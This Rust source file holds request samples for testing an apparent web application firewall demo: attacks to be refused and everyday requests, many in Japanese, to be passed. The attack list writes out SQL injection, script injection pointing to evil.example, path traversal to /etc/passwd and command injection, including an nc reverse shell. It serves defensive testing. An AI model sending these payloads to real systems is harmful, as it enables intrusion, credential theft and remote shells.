//! What visitors and attackers of the demo send: requests as data. Nothing is sent here.

use std::net::IpAddr;

use crate::lab::{Request, Scheme};

/// One request of a list.
#[derive(Clone, Copy, Debug)]
pub struct Sample {
    pub name: &'static str,
    pub method: &'static str,
    pub target: &'static str,
    pub headers: &'static [&'static str],
    pub body: Option<&'static str>,
}

impl Sample {
    /// The request to one site.
    pub fn request(&self, scheme: Scheme, fqdn: &str, address: IpAddr) -> Request {
        Request {
            method: self.method.to_owned(),
            headers: self.headers.iter().map(|header| (*header).to_owned()).collect(),
            body: self.body.map(str::to_owned),
            ..Request::get(scheme, fqdn, address, self.target)
        }
    }
}

const fn get(name: &'static str, target: &'static str) -> Sample {
    Sample { name, method: "GET", target, headers: &[], body: None }
}

const fn with(name: &'static str, target: &'static str, headers: &'static [&'static str]) -> Sample {
    Sample { name, method: "GET", target, headers, body: None }
}

const fn post(
    name: &'static str,
    target: &'static str,
    kind: &'static [&'static str],
    body: &'static str,
) -> Sample {
    Sample { name, method: "POST", target, headers: kind, body: Some(body) }
}

const FORM: &[&str] = &["Content-Type: application/x-www-form-urlencoded"];
const FORM_UTF8: &[&str] = &["Content-Type: application/x-www-form-urlencoded; charset=UTF-8"];
const JSON: &[&str] = &["Content-Type: application/json"];
const MULTIPART: &[&str] = &["Content-Type: multipart/form-data; boundary=AaB03x"];

/// Refused by the starter rules, in every place of a request.
pub const ATTACKS: [Sample; 24] = [
    get("SQL tautology in the query", "/item?id=1%27%20or%201%3D1--"),
    get("SQL union in the query", "/search?q=1+UNION+SELECT+user,password+FROM+users"),
    get("SQL union, encoded twice", "/search?q=1%2520UNION%2520SELECT%2520password"),
    post("SQL tautology in a form", "/login", FORM, "user=admin%27+or+%271%27%3D%271%27+--+&password=x"),
    post(
        "SQL union in JSON",
        "/api/items",
        JSON,
        r#"{"filter":{"name":"x' UNION SELECT password FROM users--"}}"#,
    ),
    with("SQL in a cookie", "/", &["Cookie: sid=1' UNION SELECT password FROM users--"]),
    get("stacked SQL", "/item?id=1;DROP%20TABLE%20users--"),
    get("script in the query", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    get("event handler in the query", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
    post(
        "script in a form",
        "/comment",
        FORM,
        "text=%3Cscript%20src%3D%2F%2Fevil.example%2Fx.js%3E%3C%2Fscript%3E",
    ),
    post(
        "script in JSON",
        "/api/comment",
        JSON,
        r#"{"text":"<script>document.location='//evil.example'</script>"}"#,
    ),
    post(
        "script in a multipart field",
        "/comment",
        MULTIPART,
        "--AaB03x\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n<script>alert(1)</script>\r\n--AaB03x--\r\n",
    ),
    get("traversal in a parameter", "/file?name=../../../../etc/passwd"),
    get("traversal in the path, encoded", "/static/%2e%2e%2f%2e%2e%2fetc/passwd"),
    get("traversal, encoded twice", "/file?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    get("a file of the system", "/file?name=/etc/passwd"),
    get("command after a semicolon", "/ping?host=127.0.0.1;cat%20/etc/passwd"),
    get("command substitution", "/ping?host=$(id)"),
    get("command after a pipe", "/ping?host=x|nc%20-e%20/bin/sh%20192.0.2.1%204444"),
    post("command in a form", "/ping", FORM, "host=127.0.0.1%3Bcat+%2Fetc%2Fshadow"),
    with("scanner sqlmap", "/", &["User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"]),
    with("scanner nikto", "/", &["User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"]),
    with("script in a header", "/", &["Referer: https://a.example/?q=<script>alert(1)</script>"]),
    get("null byte", "/file?name=report.pdf%00.exe"),
];

/// Passed: everyday requests that look a little like attacks, Japanese text among them.
pub const BENIGN: [Sample; 20] = [
    get("home page", "/"),
    get("a Japanese search", "/search?q=%E6%9D%B1%E4%BA%AC%20%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3"),
    get("a Japanese path", "/%E4%BC%9A%E7%A4%BE%E6%A6%82%E8%A6%81/%E6%B2%BF%E9%9D%A9"),
    post(
        "a Japanese form",
        "/contact",
        FORM_UTF8,
        "name=%E5%B1%B1%E7%94%B0%E5%A4%AA%E9%83%8E&text=%E8%B3%87%E6%96%99%E3%82%92%E3%81%8A%E9%A1%98%E3%81%84%E3%81%97%E3%81%BE%E3%81%99%E3%80%82",
    ),
    post(
        "Japanese JSON",
        "/api/comment",
        JSON,
        r#"{"件名":"お問い合わせ","本文":"見積もりを選択して、注文から削除してください。"}"#,
    ),
    post("full-width signs", "/api/comment", JSON, r#"{"text":"価格は<別途>、送料＝無料（関東）；税込"}"#),
    get("an apostrophe", "/people?name=Conan%20O%27Brien"),
    get("everyday words of SQL", "/search?q=select%20a%20seat%20from%20the%20list"),
    get("union of workers", "/search?q=union%20of%20workers%20and%20select%20committee"),
    get("a comparison", "/search?q=a%20%3C%20b%20and%20c%20%3E%20d"),
    get("percent signs", "/search?q=100%25%20cotton%2020%25%20off"),
    get("dots in words", "/search?q=wait...%20what%3F%20e.g.%20v1..v2"),
    get("an e-mail address", "/subscribe?mail=taro.yamada%2Bnews%40example.jp"),
    post(
        "JSON of an order",
        "/api/orders",
        JSON,
        r#"{"items":[{"id":17,"count":2,"note":"gift; no receipt"}],"total":1980}"#,
    ),
    post("a form", "/login", FORM, "user=taro&password=correct-horse-battery%26staple"),
    post(
        "a multipart upload",
        "/upload",
        MULTIPART,
        "--AaB03x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"\u{5831}\u{544a}.txt\"\r\n\
         Content-Type: text/plain\r\n\r\nA & B: 5 < 7 \u{3067}\u{3059}\r\n--AaB03x--\r\n",
    ),
    with(
        "long cookies",
        "/",
        &[
            "Cookie: session=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08; theme=dark; _ga=GA1.2.1234567890.1700000000",
        ],
    ),
    with(
        "a browser",
        "/",
        &[
            "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Accept-Language: ja,en-US;q=0.9,en;q=0.8",
        ],
    ),
    with(
        "a link from a search",
        "/",
        &["Referer: https://search.example/?q=how+to+drop+a+table+on+the+floor"],
    ),
    Sample { name: "HEAD", method: "HEAD", target: "/big", headers: &[], body: None },
];
